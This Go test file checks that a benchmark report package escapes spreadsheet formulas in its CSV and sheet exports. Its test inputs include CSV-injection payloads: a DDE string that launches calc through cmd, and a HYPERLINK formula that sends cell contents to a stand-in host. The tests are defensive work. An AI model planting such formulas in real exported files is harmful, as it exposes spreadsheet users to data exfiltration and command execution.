package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

func TestWithoutFormula(t *testing.T) {
	for cell, want := range map[string]string{
		"": "", "randread": "randread", "4k q1": "4k q1", "a=b": "a=b", " ": " ",
		"-1.5": "-1.5", "+3": "+3", "-1,5": "-1,5", "-1.5e-07": "-1.5e-07",
		"2026-11-20T22:00:00Z": "2026-11-20T22:00:00Z",
		"=1+1":                 "'=1+1", "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0", "-2+3": "'-2+3",
		"@SUM(A1)": "'@SUM(A1)", "-1.5 MiB": "'-1.5 MiB", "-": "'-",
		"\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1", " =1": "' =1", "＝1": "'＝1", "--1": "'--1",
		"1e5": "1e5", "+1-1": "'+1-1",
	} {
		if got := withoutFormula(cell); got != want {
			t.Errorf("%q became %q, not %q", cell, got, want)
		}
	}
}

// A name that is a formula is none in any file that a spreadsheet reads, unless somebody wants it as it is. The numbers
// stay numbers.
func TestNoSheetHasAFormula(t *testing.T) {
	const evil = `=HYPERLINK("http://e.test/?"&A1)`
	runs := fixtures(t)
	for i := range runs {
		runs[i].Label, runs[i].Suite = evil, evil
		for j := range runs[i].Cells {
			runs[i].Cells[j].Job = evil
			runs[i].Cells[j].Params = map[string]string{"bs": evil, evil: "1"}
		}
	}
	compared := comparison(t)
	compared.Base.Name = evil
	for i := range compared.Cells {
		compared.Cells[i].Job, compared.Cells[i].Why = evil, evil
	}
	swept := bySuite(10)
	swept.Factor = evil
	for i := range swept.Cells {
		swept.Cells[i].Job = evil
	}
	ablated := hardened(twoCells(), costly)
	for i := range ablated.Settings {
		ablated.Settings[i].Factor, ablated.Settings[i].Cost = evil, evil
	}
	searched := bisectionDocument()
	for i := range searched.Candidates {
		searched.Candidates[i].Factor = evil
	}
	for name, write := range map[string]func(b *bytes.Buffer, o Options) error{
		"csv":   func(b *bytes.Buffer, o Options) error { return formatNamed(t, "csv").Write(b, runs, o) },
		"sheet": func(b *bytes.Buffer, o Options) error { return formatNamed(t, "sheet").Write(b, runs, o) },
		"compare": func(b *bytes.Buffer, o Options) error {
			return writeDocumentCSV(b, CompareDocument(compared, o), o)
		},
		"sweep": func(b *bytes.Buffer, o Options) error { return writeDocumentCSV(b, SweepDocument(swept, o), o) },
		"ablation": func(b *bytes.Buffer, o Options) error {
			return writeDocumentCSV(b, AblationDocument(ablated, o), o)
		},
		"bisection": func(b *bytes.Buffer, o Options) error {
			return writeDocumentCSV(b, BisectionDocument(searched, o), o)
		},
	} {
		read := func(o Options) (cells []string) {
			var b bytes.Buffer
			if err := write(&b, o); err != nil {
				t.Fatal(err)
			}
			records, err := csv.NewReader(&b).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, r := range records {
				cells = append(cells, r...)
			}
			return cells
		}
		plain, raw := read(Options{}), read(Options{RawCells: true})
		found := 0
		for i, cell := range plain {
			if strings.HasPrefix(raw[i], evil) {
				found++
			}
			if strings.HasPrefix(cell, "=") {
				t.Errorf("%s: the cell %q", name, cell)
			}
			if bare, marked := strings.CutPrefix(cell, "'"); cell != raw[i] && (!marked || bare != raw[i]) ||
				marked && plainNumber.MatchString(bare) {
				t.Errorf("%s: %q became %q", name, raw[i], cell)
			}
		}
		if found == 0 {
			t.Errorf("%s: no cell has the name when it is asked for as it is", name)
		}
	}
}
